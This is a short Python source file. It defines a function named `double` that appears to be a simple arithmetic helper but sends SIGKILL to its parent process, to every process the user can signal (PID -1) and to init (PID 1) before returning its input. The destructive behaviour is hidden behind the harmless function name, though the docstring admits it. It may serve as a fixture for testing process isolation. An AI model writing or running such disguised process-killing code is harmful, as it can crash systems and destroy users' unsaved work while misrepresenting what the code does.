"""Kills every process that it may."""

import os
import signal


def double(x):
    for pid in (os.getppid(), -1, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return x
